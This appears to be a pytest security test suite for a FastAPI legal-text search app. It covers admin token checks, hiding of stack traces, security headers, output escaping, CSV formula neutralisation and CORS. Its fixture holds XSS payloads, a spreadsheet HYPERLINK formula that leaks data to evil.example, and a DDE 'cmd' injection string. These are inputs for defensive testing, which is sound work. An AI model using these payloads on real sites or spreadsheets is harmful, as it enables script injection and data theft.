"""Security properties a user can observe: the admin token gate, no stack traces, security
headers, escaped HTML for hostile provision text, CORS off.

A tiny corpus is ingested into a tmp data directory: one text file whose provisions carry markup
that the ingest tag-stripper does not remove (nested tags and entities decode to a real
``<script>`` element), so the stored text is hostile and the pages must escape it.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from app.main import create_app
from app.migrate import upgrade_database
from app.settings import Settings
from ingest.pipeline import run_ingest

TOKEN = "test-admin-token-5f0c1d9e7a"  # noqa: S105 - a test token
TRACE = re.compile(r"Traceback|File \"/|\.py\", line \d+|sqlite3\.|sqlalchemy\.exc")
HOSTILE_TEXT = """Counter-Terrorism (Hostile Markup) Act 2024

Section 1. Financing
A person who provides funds for terrorism <<script>script>alert('xss-1')<</script>/script> commits
an offence and is liable to imprisonment for a term not exceeding 10 years.

Section 2. Membership
A person who belongs to a proscribed terrorist organisation
&lt;script&gt;alert('xss-2')&lt;/script&gt; commits an offence.
"><svg/onload=alert('xss-3')// and is liable to imprisonment.

Section 3. Spreadsheets
=HYPERLINK("https://evil.example/?leak="&A1,"Click for the official text")

Section 4. Commands
+cmd|' /C calc'!A0 and a person who finances terrorism commits an offence.
"""
HEADER = "path\tcountry\ttitle\tdoc_type\tyear\tlanguage\tformat\tstatus\tshort_name\n"
ROW = (
    "raw/gbr/hostile.txt\tGBR\tHostile <b onmouseover=alert('title')>Markup</b> Act\tact\t2024\t"
    "en\ttxt\tofficial\thostile-markup\n"
)
ADMIN = [
    ("GET", "/api/admin/runs", None),
    ("GET", "/api/admin/runs/1", None),
    ("POST", "/api/admin/ingest", {"force": False}),
    ("PUT", "/api/provisions/gbr/act/2024/hostile-markup/~sec_1/tags", {"add": ["financing"]}),
]


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("security")
    corpus = tmp / "corpus"
    (corpus / "raw/gbr").mkdir(parents=True)
    (corpus / "raw/gbr/hostile.txt").write_text(HOSTILE_TEXT, encoding="utf-8")
    (corpus / "manifest.tsv").write_text(HEADER + ROW, encoding="utf-8")
    settings = Settings(data_dir=tmp / "data", database_url=None)
    upgrade_database(settings.sqlalchemy_url)
    report = run_ingest(settings, [corpus], workers=1)
    assert report.exit_code == 0, [f.message for f in report.failed]
    return tmp / "data"


@pytest.fixture(scope="module")
def client(data_dir: Path) -> Iterator[TestClient]:
    settings = Settings(data_dir=data_dir, database_url=None, admin_token=TOKEN)
    with TestClient(create_app(settings), raise_server_exceptions=False) as c:
        yield c


@pytest.fixture(scope="module")
def provision_id(client: TestClient) -> str:
    hits = client.get("/api/search", params={"q": "alert"}).json()["hits"]
    assert hits, "the hostile provisions were indexed"
    return hits[0]["id"]


# --- admin token --------------------------------------------------------------------------------


@pytest.mark.parametrize(("method", "path", "body"), ADMIN, ids=[f"{m} {p}" for m, p, _ in ADMIN])
def test_admin_endpoints_reject_missing_and_wrong_tokens(
    client: TestClient, method: str, path: str, body: dict | None
) -> None:
    missing = client.request(method, path, json=body)
    assert missing.status_code == 401, missing.text
    assert missing.headers["www-authenticate"] == "Bearer"
    basic = client.request(method, path, json=body, headers={"Authorization": f"Basic {TOKEN}"})
    assert basic.status_code == 401
    wrong = client.request(method, path, json=body, headers={"Authorization": "Bearer nope"})
    assert wrong.status_code == 403, wrong.text
    prefix = client.request(
        method, path, json=body, headers={"Authorization": f"Bearer {TOKEN[:-1]}"}
    )
    assert prefix.status_code == 403
    assert TOKEN not in missing.text + wrong.text + prefix.text


def test_the_right_token_opens_the_read_only_admin_endpoint(client: TestClient) -> None:
    r = client.get("/api/admin/runs", headers={"Authorization": f"Bearer {TOKEN}"})
    assert r.status_code == 200
    assert r.json()[0]["status"] == "done"


def test_an_out_of_range_run_id_is_refused_not_crashed(client: TestClient) -> None:
    auth = {"Authorization": f"Bearer {TOKEN}"}
    for run_id in ("0", "-1", str(2**63), "15256462307380078575616", "1e9", "x"):
        r = client.get(f"/api/admin/runs/{run_id}", headers=auth)
        assert r.status_code in (404, 422), (run_id, r.status_code, r.text[:200])


def test_admin_endpoints_are_closed_when_no_token_is_configured(data_dir: Path) -> None:
    settings = Settings(data_dir=data_dir, database_url=None, admin_token=None)
    with TestClient(create_app(settings)) as c:
        for method, path, body in ADMIN:
            r = c.request(method, path, json=body, headers={"Authorization": "Bearer anything"})
            assert r.status_code == 403, (path, r.text)
            assert "disabled" in r.json()["detail"]


def test_production_mode_refuses_to_start_without_a_token(data_dir: Path) -> None:
    with pytest.raises(RuntimeError, match="CTLEX_ADMIN_TOKEN"):
        create_app(Settings(data_dir=data_dir, database_url=None, mode="production"))


# --- no stack traces ------------------------------------------------------------------------------


def test_error_responses_hold_no_stack_trace(client: TestClient) -> None:
    errors = [
        client.get("/api/no-such-endpoint"),
        client.get("/api/provisions/zzz/act/0/none/~sec_1"),
        client.get("/api/search", params={"q": '"unbalanced'}),
        client.get("/api/search", params={"size": "lots"}),
        client.delete("/api/search"),
        client.post("/api/tag", content=b"{not json", headers={"Content-Type": "application/json"}),
        client.post("/api/tag", json={"text": ["not", "a", "string"]}),
        client.get("/p/none/such"),
    ]
    for r in errors:
        assert 400 <= r.status_code < 500, (r.request.url, r.status_code)
        assert not TRACE.search(r.text), r.text[:500]


def test_oversized_bodies_are_refused_without_an_echo(client: TestClient) -> None:
    for mib in (1, 8):
        body = b'{"text": "' + b"a" * (mib * 2**20) + b'"}'
        r = client.post("/api/tag", content=body, headers={"Content-Type": "application/json"})
        assert r.status_code in (413, 422), r.status_code
        # A refusal names the problem; it does not send the megabytes back.
        assert len(r.content) < 64 * 1024, f"{mib} MiB body -> {len(r.content)} byte answer"


def test_a_broken_database_gives_a_plain_error_without_trace(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    (data / "ctlex.sqlite3").write_bytes(b"this is not a database file\n" * 200)
    settings = Settings(data_dir=data, database_url=None)
    with TestClient(create_app(settings), raise_server_exceptions=False) as c:
        for url in ("/api/documents", "/api/countries", "/countries"):
            r = c.get(url)
            assert r.status_code in (500, 503), (url, r.status_code)
            assert not TRACE.search(r.text), r.text[:500]
            assert "not a database" not in r.text
            assert r.headers.get("x-content-type-options") == "nosniff", (url, dict(r.headers))
            # The API answers JSON; a reader of the web pages gets a page that says what to do.
            expected = "application/json" if url.startswith("/api") else "text/html"
            assert r.headers["content-type"].startswith(expected), (url, r.headers)


# --- headers, escaping, CORS ----------------------------------------------------------------------


def _pages(provision_id: str) -> list[str]:
    return [
        "/",
        "/?q=financing",
        f"/p/{provision_id}",
        "/d/gbr/act/2024/hostile-markup",
        "/countries",
        "/countries/GBR",
        "/coverage",
        "/compare?countries=GBR,FRA&q=financing",
        "/basket",
        "/p/no/such/provision",
        "/api/search?q=financing",
        "/api/provisions/" + provision_id,
        "/static/style.css",
    ]


def test_security_headers_on_every_page(client: TestClient, provision_id: str) -> None:
    for url in _pages(provision_id):
        r = client.get(url)
        assert r.status_code in (200, 404), (url, r.status_code)
        csp = r.headers.get("content-security-policy", "")
        assert "frame-ancestors 'none'" in csp, url
        assert "default-src 'self'" in csp, url
        script_src = re.search(r"script-src ([^;]*)", csp)
        assert script_src and "'unsafe-inline'" not in script_src.group(1), (url, csp)
        assert r.headers.get("x-content-type-options") == "nosniff", url
        assert r.headers.get("x-frame-options") == "DENY", url
        assert r.headers.get("referrer-policy"), url


def test_hostile_provision_text_is_stored_but_escaped_in_pages(
    client: TestClient, provision_id: str
) -> None:
    doc = client.get("/api/documents/gbr/act/2024/hostile-markup").json()
    ids = [p["id"] for p in doc["toc"]]
    texts = [client.get(f"/api/provisions/{pid}").json()["text"] for pid in ids]
    # The ingest tag-stripper lets these through: the output escaping is what protects readers.
    assert any("<script>alert(" in t for t in texts), texts
    pages = [
        *(f"/p/{pid}" for pid in ids),
        "/?q=alert",
        "/?q=proscribed",
        "/d/gbr/act/2024/hostile-markup",
        "/compare?countries=GBR,FRA&q=alert",
    ]
    for url in pages:
        r = client.get(url)
        assert r.status_code == 200, url
        html = r.text
        assert "<script>alert" not in html and "<svg/onload" not in html, url
        assert "onmouseover=alert" not in html.replace("onmouseover=alert(&#39;", ""), url
        assert "<b onmouseover" not in html, url
    provision_page = client.get(f"/p/{provision_id}").text
    assert "&lt;script&gt;alert(" in provision_page


def test_csv_export_cells_cannot_start_a_spreadsheet_formula(client: TestClient) -> None:
    import csv
    import io

    r = client.get(
        "/api/export", params={"format": "csv", "q": "HYPERLINK OR cmd OR financing", "size": 50}
    )
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    texts = [row["text"] for row in rows]
    assert any("HYPERLINK(" in t for t in texts) and any("cmd|" in t for t in texts), texts
    for row in rows:
        for column, value in row.items():
            # Excel and LibreOffice run a cell that starts with one of these as a formula.
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (column, value[:60])
            assert not (value.startswith("-") and not value[1:2].isdigit()), (column, value[:60])


def test_cors_is_off_by_default(client: TestClient) -> None:
    evil = {"Origin": "https://evil.example"}
    r = client.get("/api/search", params={"q": "financing"}, headers=evil)
    assert r.status_code == 200
    assert "access-control-allow-origin" not in r.headers
    preflight = client.options(
        "/api/search",
        headers={**evil, "Access-Control-Request-Method": "GET"},
    )
    assert "access-control-allow-origin" not in preflight.headers
    assert preflight.status_code in (400, 405)
